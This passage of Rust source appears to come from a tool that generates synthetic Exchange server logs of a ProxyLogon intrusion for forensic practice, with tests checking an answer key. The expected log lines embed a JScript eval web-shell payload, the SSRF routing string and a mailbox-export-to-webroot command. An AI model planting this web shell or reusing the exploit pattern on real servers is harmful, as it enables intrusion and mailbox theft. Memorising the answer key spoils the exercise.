    fn noise_line(buf: &mut Vec<u8>, rng: &mut Rng) {
        let mut shape = Shape {
            method: b"GET",
            stem: b"/owa/healthcheck.htm",
            query_head: b"",
            exchange_query: None,
            owa: false,
            user: b"",
            ip: if rng.chance(500) {
                b"172.16.0.10"
            } else {
                b"172.16.0.11"
            },
            agent: b"",
            referer: b"",
            status: OK,
            took: rng.below(3),
        };
        match rng.below(10) {
            0..=3 => {}
            4..=6 => {
                shape.stem = b"/Microsoft-Server-ActiveSync/default.eas";
                shape.exchange_query = Some(b"");
                shape.user = HEALTH_USER;
                shape.ip = if rng.chance(500) {
                    b"::1"
                } else {
                    b"127.0.0.1"
                };
                shape.agent = b"AMProbe/Local/ClientAccess";
                shape.took = rng.range(8, 120);
            }
            7 => {
                shape.method = b"POST";
                shape.stem = b"/mapi/emsmdb/";
                shape.exchange_query =
                    Some(b"mailboxId=5c2f0d7e-8a41-4b6c-9e3d-2f1a0b9c8d7e@corp.example.org");
                shape.user = HEALTH_USER;
                shape.ip = SERVER_IP;
                shape.agent = b"MapiHttpClient";
                shape.took = rng.range(8, 120);
            }
            _ => {
                shape.stem = *rng.pick(&[
                    b"/aspnet_client/shell.aspx".as_slice(),
                    b"/owa/auth/errorEE.aspx",
                    b"/wp-login.php",
                    b"/.env",
                    b"/autodiscover/autodiscover.json",
                ]);
                shape.ip = b"192.0.2.55";
                shape.agent = b"Mozilla/5.0+(compatible;+ExampleScanner/1.0)";
                shape.status = NOT_FOUND;
                shape.took = rng.range(1, 12);
            }
        }
        push_shape(buf, &shape, rng);
    }

    /// ~0.01% of lines: ProxyLogon SSRF and web-shell traffic from a few fixed addresses.
    fn attacker_line(buf: &mut Vec<u8>, rng: &mut Rng) {
        let ip = rng.pick(&ATTACKER_IPS).as_bytes();
        let letter = [b'a' + rng.below(26) as u8];
        let mut stem = b"/ecp/".to_vec();
        stem.extend_from_slice(&letter);
        stem.extend_from_slice(b".js");
        let mut shape = Shape {
            method: b"POST",
            stem: &stem,
            query_head: b"",
            exchange_query: Some(b""),
            owa: false,
            user: b"",
            ip,
            agent: b"python-requests/2.25.1",
            referer: b"",
            status: if rng.chance(300) { PROXYLOGON } else { OK },
            took: rng.range(100, 2_500),
        };
        match rng.below(3) {
            0 => {}
            1 => {
                shape.stem = b"/aspnet_client/discover.aspx";
                shape.exchange_query = None;
                shape.agent = b"Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64;+rv:78.0)+Gecko/20100101+Firefox/78.0";
                shape.status = OK;
            }
            _ => {
                shape.stem = b"/owa/auth/RedirSuiteServerProxy.aspx";
                shape.owa = true;
                shape.agent = b"Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64;+rv:78.0)+Gecko/20100101+Firefox/78.0";
                shape.status = OK;
            }
        }
        push_shape(buf, &shape, rng);
    }
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;

    /// A scratch directory under the system temp dir, removed when dropped.
    struct Scratch(PathBuf);

    impl Scratch {
        fn new(name: &str) -> Self {
            let path =
                std::env::temp_dir().join(format!("trawl-generate-{name}-{}", std::process::id()));
            let _ = fs::remove_dir_all(&path);
            Self(path)
        }
    }

    impl Drop for Scratch {
        fn drop(&mut self) {
            let _ = fs::remove_dir_all(&self.0);
        }
    }

    fn text(path: &Path) -> String {
        let bytes = fs::read(path).unwrap();
        let bytes = bytes.strip_prefix(UTF8_BOM).unwrap_or(&bytes);
        String::from_utf8_lossy(bytes).into_owned()
    }

    /// Tests run in parallel, so each one writes its own copy.
    fn sample(test: &str) -> (Scratch, GenSummary) {
        let dir = Scratch::new(test);
        let summary = write_sample_case(&dir.0, &SampleOptions::default()).unwrap();
        (dir, summary)
    }

    fn files_matching<'a>(
        summary: &'a GenSummary,
        needle: &'a str,
    ) -> impl Iterator<Item = &'a PathBuf> {
        summary
            .files
            .iter()
            .map(|(path, _, _)| path)
            .filter(move |p| p.to_string_lossy().replace('\\', "/").contains(needle))
    }

    fn data_lines(text: &str) -> impl Iterator<Item = &str> {
        text.split("\r\n")
            .filter(|l| !l.is_empty() && !l.starts_with('#'))
    }

    /// Splits one CSV record, honouring quotes and doubled quotes.
    fn csv_split(line: &str) -> Vec<String> {
        let mut fields = vec![String::new()];
        let mut quoted = false;
        let mut chars = line.chars().peekable();
        while let Some(c) = chars.next() {
            match (c, quoted) {
                ('"', true) if chars.peek() == Some(&'"') => {
                    chars.next();
                    fields.last_mut().unwrap().push('"');
                }
                ('"', _) => quoted = !quoted,
                (',', false) => fields.push(String::new()),
                _ => fields.last_mut().unwrap().push(c),
            }
        }
        fields
    }

    fn cafe_req_id(query: &str) -> Option<&str> {
        let start = query.find("cafeReqId=")? + "cafeReqId=".len();
        query[start..].split(';').next()
    }

    #[test]
    fn civil_dates_match_chrono() {
        for days in (-800_000..800_000).step_by(997) {
            let date = chrono::NaiveDate::from_num_days_from_ce_opt(719_163 + days as i32).unwrap();
            let (y, m, d) = civil_from_days(days);
            assert_eq!(
                (y, m, d),
                (
                    i64::from(chrono::Datelike::year(&date)),
                    chrono::Datelike::month(&date),
                    chrono::Datelike::day(&date)
                )
            );
            assert_eq!(days_from_civil(y, m, d), days);
            assert_eq!(
                weekday(days * DAY),
                chrono::Datelike::weekday(&date).num_days_from_monday()
            );
        }
    }

    #[test]
    fn reference_httpproxy_rows_are_reproduced() {
        let ews = ProxyRow {
            end: march(5, 14, 7, 52, 311),
            request_id: "62b4b399-61f6-401a-ab5d-839f2c969224".into(),
            client_request_id: String::new(),
            protocol: Protocol::Ews,
            url_host: MAIL_HOST.into(),
            url_stem: "/EWS/Exchange.asmx".into(),
            url_query: String::new(),
            protocol_action: String::new(),
            auth_kind: "Negotiate",
            authenticated_user: "EXAMPLE\\t.nguyen".into(),
            anchor: format!("Sid~{SID_PREFIX}-3107"),
            user_agent: OUTLOOK_UA.into(),
            client_ip: "172.16.30.45".into(),
            server: Host::A,
            status: 200,
            method: "POST",
            time_taken: 187,
            handling: Handling::Proxied(ProxyLeg {
                backend_status: 200,
                target_server: Host::B.fqdn().into(),
                target_version: BACKEND_VERSION,
                routing_hint: "WindowsIdentity",
                request_bytes: 1874,
                response_bytes: 5320,
                backend_ms: 179,
                stream_ms: 3,
                database: Host::B.database().into(),
            }),
        };
        assert_eq!(
            render_proxy_row(&ews),
            "2021-03-05T14:07:52.311Z,62b4b399-61f6-401a-ab5d-839f2c969224,15,2,792,3,,Ews,mail.example.org,/EWS/Exchange.asmx,,Negotiate,true,EXAMPLE\\t.nguyen,,Sid~S-1-5-21-1004336348-1177238915-682003330-3107,Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.13127; Pro),172.16.30.45,MBX-A,200,200,,POST,Proxy,MBX-B.corp.example.org,15.02.0792.000,IntraForest,WindowsIdentity,,,,1874,5320,,,0,1,,0,,0,,0,0,,0,187,0,0,1,0,179,0,0,0,,0,187,0,183,3,1,4,187,,,,BeginRequest=2021-03-05T14:07:52.124Z;CorrelationID=<empty>;ProxyState-Run=None;FEAuth=BEVersion-1942127384;BeginGetRequestStream=2021-03-05T14:07:52.127Z;OnRequestStreamReady=2021-03-05T14:07:52.127Z;BeginGetResponse=2021-03-05T14:07:52.128Z;OnResponseReady=2021-03-05T14:07:52.310Z;EndGetResponse=2021-03-05T14:07:52.310Z;ProxyState-Complete=ProxyResponseData;SharedCacheGuard=0;EndRequest=2021-03-05T14:07:52.311Z;,,,|RoutingDB:d3e48c9e-c2f6-47a6-9337-2368848ffbeb,,,CafeV1"
        );
        let ssrf = ProxyRow {
            end: march(5, 17, 42, 19, 506),
            request_id: "b103bde8-1dfd-46c0-9474-4b3277e3332a".into(),
            protocol: Protocol::Ecp,
            url_stem: "/ecp/t.js".into(),
            auth_kind: "",
            authenticated_user: String::new(),
            anchor: "ServerInfo~a]@MBX-A.corp.example.org:444/ecp/proxyLogon.ecp?#".into(),
            user_agent: "python-requests/2.19.1".into(),
            client_ip: "198.51.100.144".into(),
            status: 241,
            time_taken: 375,
            handling: Handling::Proxied(ProxyLeg {
                backend_status: 241,
                target_server: Host::A.fqdn().into(),
                target_version: BACKEND_VERSION,
                routing_hint: "X-BEResource-Cookie",
                request_bytes: 1206,
                response_bytes: 377,
                backend_ms: 366,
                stream_ms: 2,
                database: String::new(),
            }),
            ..ews.clone()
        };
        assert_eq!(
            render_proxy_row(&ssrf),
            "2021-03-05T17:42:19.506Z,b103bde8-1dfd-46c0-9474-4b3277e3332a,15,2,792,3,,Ecp,mail.example.org,/ecp/t.js,,,false,,,ServerInfo~a]@MBX-A.corp.example.org:444/ecp/proxyLogon.ecp?#,python-requests/2.19.1,198.51.100.144,MBX-A,241,241,,POST,Proxy,MBX-A.corp.example.org,15.02.0792.000,IntraForest,X-BEResource-Cookie,,,,1206,377,,,0,1,,0,,0,,0,0,,0,375,0,0,1,0,366,0,0,0,,0,375,0,371,3,1,4,375,,,,BeginRequest=2021-03-05T17:42:19.131Z;CorrelationID=<empty>;ProxyState-Run=None;FEAuth=BEVersion-1942127384;BeginGetRequestStream=2021-03-05T17:42:19.133Z;OnRequestStreamReady=2021-03-05T17:42:19.133Z;BeginGetResponse=2021-03-05T17:42:19.134Z;OnResponseReady=2021-03-05T17:42:19.505Z;EndGetResponse=2021-03-05T17:42:19.505Z;ProxyState-Complete=ProxyResponseData;SharedCacheGuard=0;EndRequest=2021-03-05T17:42:19.506Z;,,,,,,CafeV1"
        );
        let shell = ProxyRow {
            end: march(5, 19, 16, 40, 72),
            request_id: "db7483fd-3609-4727-9be1-66d62e6ef685".into(),
            protocol: Protocol::Owa,
            url_stem: "/owa/auth/demo_m7.aspx".into(),
            auth_kind: "FBA",
            anchor: String::new(),
            user_agent: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/79.0.3945.130 Safari/537.36".into(),
            client_ip: "192.0.2.201".into(),
            status: 200,
            time_taken: 964,
            handling: Handling::Local { note: "" },
            ..ssrf.clone()
        };
        assert_eq!(
            render_proxy_row(&shell),
            "2021-03-05T19:16:40.072Z,db7483fd-3609-4727-9be1-66d62e6ef685,15,2,792,3,,Owa,mail.example.org,/owa/auth/demo_m7.aspx,,FBA,false,,,,Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML  like Gecko) Chrome/79.0.3945.130 Safari/537.36,192.0.2.201,MBX-A,200,,,POST,,,,,,,,,0,,,,,,,,,,,,,,,0,,,,,,,,,,,,,,0,,0,0,,,,BeginRequest=2021-03-05T19:16:39.108Z;CorrelationID=<empty>;SharedCacheGuard=0;EndRequest=2021-03-05T19:16:40.072Z;,,,,,,"
        );
    }

    #[test]
    fn reference_iis_ecp_and_event_lines_are_reproduced() {
        let record = IisRecord {
            end: march(5, 14, 7, 52, 311),
            server_ip: Host::A.ip(),
            method: "POST",
            stem: "/EWS/Exchange.asmx".into(),
            query: exchange_query("", "62b4b399-61f6-401a-ab5d-839f2c969224", Protocol::Ews),
            port: 443,
            user: "EXAMPLE\\t.nguyen".into(),
            client_ip: "172.16.30.45".into(),
            user_agent: OUTLOOK_UA.into(),
            referer: String::new(),
            status: OK,
            time_taken: 187,
            forwarded_for: String::new(),
        };
        assert_eq!(
            render_iis(&record, false),
            "2021-03-05 14:07:52 172.16.4.21 POST /EWS/Exchange.asmx &CorrelationID=<empty>;&cafeReqId=62b4b399-61f6-401a-ab5d-839f2c969224; 443 EXAMPLE\\t.nguyen 172.16.30.45 Microsoft+Office/16.0+(Windows+NT+10.0;+Microsoft+Outlook+16.0.13127;+Pro) - 200 0 0 187"
        );
        let admin = EcpRecord {
            at: march(5, 10, 22, 48, 903),
            server: Host::B,
            event_data: ecp_event_data(&EcpRequest {
                millis: 412,
                session: "1e139bc7-32c8-4bc0-8344-234e98859808",
                command: "Set-OwaVirtualDirectory.ExternalUrl='https://mail.example.org/owa'.Identity='51ff8df8-ff59-48d3-af27-7fdc64d82c7a'",
                url: "/ecp/DDI/DDIService.svc/SetObject?schema=OWAVirtualDirectory&msExchEcpCanary=mBJbsdFoQdKURT2Ha9f_JBrSqHWkpFCmsc5akF9MgUmfgW1NcPXAEoD8bR6jsgNK.",
                activity: "b2f77dc3-e263-44dd-a533-f2615ef5a259",
                user_session: "40ea6d9c-3e70-4524-a6e1-ec8a9a831f60",
            }),
        };
        assert_eq!(
            render_ecp(&admin),
            "2021-03-05T10:22:48.903Z,MBX-B,ECP.Request,S:TIME=412;S:SID=1e139bc7-32c8-4bc0-8344-234e98859808;'S:CMD=Set-OwaVirtualDirectory.ExternalUrl=''https://mail.example.org/owa''.Identity=''51ff8df8-ff59-48d3-af27-7fdc64d82c7a''';S:REQID=;S:URL=/ecp/DDI/DDIService.svc/SetObject?schema=OWAVirtualDirectory&msExchEcpCanary=mBJbsdFoQdKURT2Ha9f_JBrSqHWkpFCmsc5akF9MgUmfgW1NcPXAEoD8bR6jsgNK.;S:REFERRER=;S:EX=;S:ACTID=b2f77dc3-e263-44dd-a533-f2615ef5a259;S:RS=0;S:BLD=15.2.792.3;S:TNAME=<null>;S:TID=;S:USID=40ea6d9c-3e70-4524-a6e1-ec8a9a831f60;S:EDOID=;S:ACID="
        );
        let event = ManagementEvent {
            at: march(5, 17, 42, 27, 93),
            id: 1,
            level: "Information",
            server: Host::A,
            message: cmdlet_message(
                "succeeded",
                "Set-OabVirtualDirectory",
                &[
                    ("ExternalUrl", intrusion::SHELL_SCRIPT),
                    ("Identity", intrusion::OAB_VDIR),
                ],
            ),
        };
        assert_eq!(
            render_event(&event),
            r#""2021-03-05T17:42:27.0930000Z","1","Information","MSExchange CmdletLogs","MSExchange Management","MBX-A.corp.example.org","Cmdlet succeeded. Cmdlet Set-OabVirtualDirectory, parameters -ExternalUrl ""http://f/<script language=""JScript"" runat=""server"">function Page_Load(){eval(Request[""zz9""],""unsafe"");}</script>"" -Identity ""0d821204-688a-4ef8-b7e3-1aca5cafcaf2"".""#
        );
    }

    #[test]
    fn sample_is_deterministic() {
        let (first, first_summary) = sample("sample_is_deterministic");
        let second = Scratch::new("sample-again");
        let second_summary = write_sample_case(&second.0, &SampleOptions::default()).unwrap();
        assert_eq!(first_summary.files.len(), second_summary.files.len());
        for ((a, a_lines, a_bytes), (b, b_lines, b_bytes)) in
            first_summary.files.iter().zip(&second_summary.files)
        {
            assert_eq!(
                a.strip_prefix(&first.0).unwrap(),
                b.strip_prefix(&second.0).unwrap()
            );
            assert_eq!((a_lines, a_bytes), (b_lines, b_bytes));
            assert!(
                fs::read(a).unwrap() == fs::read(b).unwrap(),
                "{} differs",
                a.display()
            );
        }
        let other = Scratch::new("sample-other-seed");
        let other_summary = write_sample_case(&other.0, &SampleOptions { seed: 7 }).unwrap();
        let bytes = |s: &GenSummary| s.files.iter().map(|f| f.2).sum::<u64>();
        assert_ne!(bytes(&first_summary), bytes(&other_summary));
        // The answer key does not depend on the seed (README lists these GUIDs).
        let other_front = text(
            &other
                .0
                .join("MBX-A/inetpub/logs/LogFiles/W3SVC1/u_ex210305.log"),
        );
        assert!(other_front.contains("&cafeReqId=68eff119-c34a-40fd-a8fd-97ae5174fe10; 443 - 198.51.100.144 python-requests/2.25.1 - 241 0 0 375"));
    }

    #[test]
    fn sample_files_are_well_formed() {
        let (_dir, summary) = sample("sample_files_are_well_formed");
        let lines: u64 = summary.files.iter().map(|f| f.1).sum();
        let bytes: u64 = summary.files.iter().map(|f| f.2).sum();
        assert!((30_000..=60_000).contains(&lines), "{lines} lines");
        assert!((3_000_000..=10_000_000).contains(&bytes), "{bytes} bytes");
        for (path, line_count, byte_count) in &summary.files {
            let raw = fs::read(path).unwrap();
            assert_eq!(raw.len() as u64, *byte_count);
            assert_eq!(count_lines(&raw), *line_count);
            let bare_lf = raw
                .windows(2)
                .filter(|w| w[1] == b'\n' && w[0] != b'\r')
                .count();
            assert_eq!(
                bare_lf + usize::from(raw[0] == b'\n'),
                0,
                "{} has a bare LF",
                path.display()
            );
            let name = path.to_string_lossy();
            let wants_bom = name.ends_with(".LOG") || name.ends_with(".csv");
            assert_eq!(raw.starts_with(UTF8_BOM), wants_bom, "{}", path.display());
        }
        for path in files_matching(&summary, "/W3SVC") {
            let content = text(path);
            let mut fields = 0;
            let mut last_time = String::new();
            let torn =
                path.ends_with("W3SVC1/u_ex210306.log") && path.to_string_lossy().contains("MBX-A");
            let all: Vec<&str> = content.split("\r\n").collect();
            for (i, line) in all.iter().enumerate() {
                if let Some(names) = line.strip_prefix("#Fields: ") {
                    fields = names.split(' ').count();
                    continue;
                }
                if line.starts_with('#') || line.is_empty() {
                    continue;
                }
                if torn && i == all.len() - 1 {
                    assert!(
                        line.len() < 260 && line.ends_with("(Windows"),
                        "torn line: {line}"
                    );
                    continue;
                }
                assert_eq!(
                    line.split(' ').count(),
                    fields,
                    "{}: {line}",
                    path.display()
                );
                let time = line[..19].to_string();
                assert!(time >= last_time, "{} not sorted at {line}", path.display());
                last_time = time;
            }
        }
        for path in files_matching(&summary, "/HttpProxy/") {
            let content = text(path);
            let mut lines = content.split("\r\n");
            assert_eq!(lines.next().map(|l| l.split(',').count()), Some(74));
            for line in data_lines(&content).skip(1) {
                assert_eq!(csv_split(line).len(), 74, "{}: {line}", path.display());
            }
        }
        for path in files_matching(&summary, "/ECP/Server/") {
            for line in data_lines(&text(path)) {
                assert_eq!(csv_split(line).len(), 4, "{line}");
            }
        }
    }

    /// Every front-end request Exchange handled has its HttpProxy row (same GUID, same client),
    /// and every back-end line belongs to one.
    #[test]
    fn sample_logs_join_on_cafe_req_id() {
        let (_dir, summary) = sample("sample_logs_join_on_cafe_req_id");
        let mut rows = std::collections::BTreeMap::new();
        for path in files_matching(&summary, "/HttpProxy/") {
            let content = text(path);
            for line in data_lines(&content).skip(1) {
                let f = csv_split(line);
                rows.insert(f[1].clone(), (f[17].clone(), f[18].clone(), f[24].clone()));
            }
        }
        let mut front_end_lines = 0;
        for path in files_matching(&summary, "/W3SVC1/") {
            let content = text(path);
            let path_text = path.to_string_lossy();
            let server = Host::COLLECTION
                .iter()
                .map(|h| h.name())
                .find(|name| path_text.contains(name))
                .unwrap();
            for line in data_lines(&content) {
                let f: Vec<&str> = line.split(' ').collect();
                let Some(id) = cafe_req_id(f[5]) else {
                    continue;
                };
                if f.len() < 15 {
                    continue; // the torn line
                }
                let (client, host, _) = rows
                    .get(id)
                    .unwrap_or_else(|| panic!("no HttpProxy row for {line}"));
                assert_eq!((client.as_str(), host.as_str()), (f[8], server), "{line}");
                front_end_lines += 1;
            }
        }
        assert!(front_end_lines > 2_500, "{front_end_lines}");
        for path in files_matching(&summary, "/W3SVC2/") {
            let content = text(path);
            for line in data_lines(&content) {
                let f: Vec<&str> = line.split(' ').collect();
                let id = cafe_req_id(f[5]).unwrap_or_else(|| panic!("no cafeReqId in {line}"));
                let (_, _, target) = rows
                    .get(id)
                    .unwrap_or_else(|| panic!("no HttpProxy row for {line}"));
                assert!(
                    Host::COLLECTION
                        .iter()
                        .any(|h| h.ip() == f[2] && target.starts_with(h.name()))
                        || target == "localhost",
                    "{line}"
                );
                assert_eq!(f[6], "444");
            }
        }
    }

    #[test]
    fn sample_contains_the_answer_key() {
        let (dir, summary) = sample("sample_contains_the_answer_key");
        let read = |relative: &str| text(&dir.0.join(relative));
        let front = read("MBX-A/inetpub/logs/LogFiles/W3SVC1/u_ex210305.log");
        let back = read("MBX-A/inetpub/logs/LogFiles/W3SVC2/u_ex210305.log");
        assert!(front.contains(
            "2021-03-05 17:41:58 172.16.4.21 GET /ecp/t.js &CorrelationID=<empty>;&cafeReqId="
        ));
        assert!(front.contains(" 443 - 198.51.100.144 python-requests/2.25.1 - 241 0 0 375\r\n"));
        assert!(front.contains("2021-03-05 17:43:02 172.16.4.21 GET /aspnet_client/discover.aspx - 443 - 198.51.100.144 python-requests/2.25.1 - 200 0 0 187\r\n"));
        assert!(front.contains("2021-03-05 20:31:09 172.16.4.21 GET /aspnet_client/ceo.pst - 443 - 203.0.113.77 Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64;+rv:78.0)+Gecko/20100101+Firefox/78.0 - 200 0 0 187344\r\n"));
        assert!(back.contains("POST /ecp/proxyLogon.ecp &CorrelationID=<empty>;&cafeReqId="));
        assert!(back.contains(&format!("POST /ecp/DDI/DDIService.svc/SetObject msExchEcpCanary={}&schema=ResetOABVirtualDirectory&CorrelationID=<empty>;&cafeReqId=", intrusion::CANARY)));
        assert_eq!(back.matches(" 444 EXAMPLE\\MBX-A$ ").count(), 8);
        let ecp_proxy = read("MBX-A/Logging/HttpProxy/Ecp/HttpProxy_2021030500-1.LOG");
        assert_eq!(
            ecp_proxy
                .matches("ServerInfo~a]@MBX-A.corp.example.org:444/")
                .count(),
            7
        );
        assert!(ecp_proxy.contains(",ServerInfo~localhost~1942062522,ExchangeServicesClient/0.0.0.0,198.51.100.144,MBX-A,200,200,"));
        assert!(ecp_proxy.contains("schema=ResetOABVirtualDirectory#,python-requests/2.25.1,198.51.100.144,MBX-A,200,200,,POST,Proxy,MBX-A.corp.example.org,"));
        let ecp = read("MBX-A/Logging/ECP/Server/ECPServer20210305-1.LOG");
        assert!(ecp.contains(r#"2021-03-05T17:42:27.118Z,MBX-A,ECP.Request,"S:TIME=1544;S:SID=c5f2e9d4-7046-4dd3-b2c7-0fb3fe3cf944;'S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://f/<script language=""JScript"" runat=""server"">function Page_Load(){eval(Request[""zz9""],""unsafe"");}</script>''.Identity=''0d821204-688a-4ef8-b7e3-1aca5cafcaf2''';S:REQID=;S:URL=/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=Ko379JgNxmbA79omJrCRwdEsb3xCyeBe5XQP7W2dnUJwS9sClqQIRzov-KreXbLk.&schema=OABVirtualDirectory;S:REFERRER=;S:EX=;S:ACTID=efbf4152-00c7-4762-b83a-d1d22c8a1167;S:RS=0;S:BLD=15.2.792.3;S:TNAME=<null>;S:TID=;S:USID=7afe83a4-47a2-4c94-a82b-c57b4674b467;S:EDOID=;S:ACID=""#));
        assert!(ecp.contains("'S:CMD=Set-OabVirtualDirectory.ExternalUrl=$null.Identity=''0d821204-688a-4ef8-b7e3-1aca5cafcaf2'''"));
        let oab = read("MBX-A/Logging/OABGeneratorLog/OABGenerator_20210305-1.LOG");
        assert!(oab.contains(r"2021-03-05T17:55:40.261Z,MBX-A,Warning,Download failed and temporary file '\\127.0.0.1\c$\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\owa\auth\RedirSuiteServerProxy.aspx' needs to be removed."));
        let events = read("MBX-A/EventLogs/MSExchangeManagement.csv");
        assert!(events.contains(r#""2021-03-05T20:05:11.4180000Z","1","Information","MSExchange CmdletLogs","MSExchange Management","MBX-A.corp.example.org","Cmdlet succeeded. Cmdlet New-MailboxExportRequest, parameters -Mailbox ""ceo@corp.example.org"" -FilePath ""\\127.0.0.1\c$\inetpub\wwwroot\aspnet_client\ceo.pst""."#));
        assert!(events.contains(r#""2021-03-05T17:42:27.0930000Z","1","Information","MSExchange CmdletLogs","MSExchange Management","MBX-A.corp.example.org","Cmdlet succeeded. Cmdlet Set-OabVirtualDirectory, parameters -ExternalUrl ""http://f/<script"#));
        assert!(events.contains("\".\r\nError: The operation couldn't"));
        let patch_day = read("MBX-A/inetpub/logs/LogFiles/W3SVC1/u_ex210306.log");
        assert_eq!(
            patch_day
                .matches("#Software: Microsoft Internet Information Services 10.0")
                .count(),
            2
        );
        assert!(patch_day.contains("#Date: 2021-03-06 03:12:00\r\n#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken X-Forwarded-For\r\n"));
        assert!(!patch_day.ends_with('\n'));
        let admin = read("MBX-B/Logging/ECP/Server/ECPServer20210304-1.LOG");
        assert!(admin.contains("2021-03-04T10:22:48.903Z,MBX-B,ECP.Request,S:TIME=412;S:SID=1e139bc7-32c8-4bc0-8344-234e98859808;'S:CMD=Set-OwaVirtualDirectory.ExternalUrl=''https://mail.example.org/owa''"));
        let escape = read("MBX-B/inetpub/logs/LogFiles/W3SVC1/u_ex210306.log");
        assert!(escape.contains("192.0.2.55 Mozilla/5.0+\u{1b}[31mred\u{1b}[0m - 404 0 2"));
        let _ = summary;
    }

    /// The shells and the export answer 200 to the two attackers only, and the operator's
    /// POST count matches the answer key.
    #[test]
    fn only_the_attackers_reach_the_shells() {
        let (_dir, summary) = sample("only_the_attackers_reach_the_shells");
        let mut operator_posts = 0;
        let mut scanner_requests = 0;
        for path in files_matching(&summary, "/W3SVC1/") {
            let content = text(path);
            for line in data_lines(&content) {
                let f: Vec<&str> = line.split(' ').collect();
                if f.len() < 15 {
                    continue;
                }
                let sensitive = ["discover.aspx", "RedirSuiteServerProxy.aspx", "ceo.pst"]
                    .iter()
                    .any(|s| f[4].ends_with(s));
                if sensitive && f[11] == "200" {
                    assert!(
                        f[8] == intrusion::EXPLOIT_IP || f[8] == intrusion::OPERATOR_IP,
                        "{line}"
                    );
                }
                if f[8] == intrusion::OPERATOR_IP && f[3] == "POST" {
                    operator_posts += 1;
                }
                if f[8] == decoys::SCANNER_IP {
                    scanner_requests += 1;
                    assert!(
                        f[11] == "404" || f[11] == "302" || f[4] == "/owa/auth/x.js",
                        "{line}"
                    );
                }
            }
        }
        assert_eq!(operator_posts, intrusion::SHELL_POSTS.len());
        assert_eq!(operator_posts, 40);
        assert!(
            (140..=160).contains(&scanner_requests),
            "{scanner_requests}"
        );
    }

    #[test]
    fn bench_writes_exactly_the_requested_lines() {
        let dir = Scratch::new("bench");
        let opts = BenchOptions {
            lines: 20_011,
            seed: 5,
            days: 7,
        };
        let summary = write_bench_corpus(&dir.0, &opts).unwrap();
        assert_eq!(summary.files.len(), 7);
        let mut total = 0u64;
        let mut bytes = 0u64;
        let mut per_day = Vec::new();
        for (path, lines, size) in &summary.files {
            let content = fs::read_to_string(path).unwrap();
            assert_eq!(content.len() as u64, *size);
            assert_eq!(count_lines(content.as_bytes()), *lines);
            let mut last = "";
            let mut data = 0;
            for line in content
                .split("\r\n")
                .filter(|l| !l.is_empty() && !l.starts_with('#'))
            {
                assert_eq!(line.split(' ').count(), 15, "{line}");
                assert!(line[..19] >= *last, "not sorted: {line}");
                last = &line[..19];
                data += 1;
            }
            assert_eq!(data + 4, *lines);
            total += data;
            bytes += size;
            per_day.push(data);
        }
        assert_eq!(total, opts.lines);
        assert!(
            summary.files[0]
                .0
                .ends_with("BENCH-1/inetpub/logs/LogFiles/W3SVC1/u_ex240304.log")
        );
        // Saturday and Sunday (the 6th and 7th files) get 0.3 times a weekday.
        assert!(
            per_day[5] * 3 < per_day[0] && per_day[5] * 4 > per_day[0],
            "{per_day:?}"
        );
        let mean = bytes / total;
        assert!((240..=320).contains(&mean), "mean line length {mean}");
        let again = Scratch::new("bench-again");
        let second = write_bench_corpus(&again.0, &opts).unwrap();
        for ((a, ..), (b, ..)) in summary.files.iter().zip(&second.files) {
            assert!(fs::read(a).unwrap() == fs::read(b).unwrap());
        }
    }

    #[test]
    fn bench_edge_cases() {
        let dir = Scratch::new("bench-edge");
        assert!(
            write_bench_corpus(
                &dir.0,
                &BenchOptions {
                    lines: 5,
                    seed: 1,
                    days: 0
                }
            )
            .is_err()
        );
        let empty = write_bench_corpus(
            &dir.0,
            &BenchOptions {
                lines: 0,
                seed: 1,
                days: 2,
            },
        )
        .unwrap();
        assert_eq!(empty.files.iter().map(|f| f.1).collect::<Vec<_>>(), [4, 4]);
        let tiny = write_bench_corpus(
            &dir.0,
            &BenchOptions {
                lines: 3,
                seed: 1,
                days: 5,
            },
        )
        .unwrap();
        assert_eq!(tiny.files.iter().map(|f| f.1 - 4).sum::<u64>(), 3);
    }
}
